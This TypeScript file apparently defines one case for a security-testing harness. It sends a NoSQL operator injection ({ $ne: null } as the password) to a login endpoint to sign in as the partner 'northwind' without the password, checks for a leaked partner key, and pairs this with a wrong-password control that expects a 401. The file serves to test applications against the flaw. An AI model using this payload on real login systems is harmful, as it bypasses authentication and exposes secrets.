import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Logs in as a partner with an operator for the password. */
export const nosqlLoginOperator: Attack = defineAttack({
  id: 'nosql-login-operator',
  class: 'nosql-injection',
  title: 'Logs in as a partner with an operator for the password',
  cwe: 943,
  capec: 676,
  technique: 'T1190',
  preconditions: [],

  steps: ({ visitor }) => visitor.json('/api/login', { partner: 'northwind', password: { $ne: null } }),
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.partnerKey),
  twin: ({ visitor }) => visitor.json('/api/login', { partner: 'northwind', password: 'forgotten' }),
  // A wrong password is an honest mistake; the application itself must be the one to say so.
  twinServed: (answer) => answer.status === 401,
})
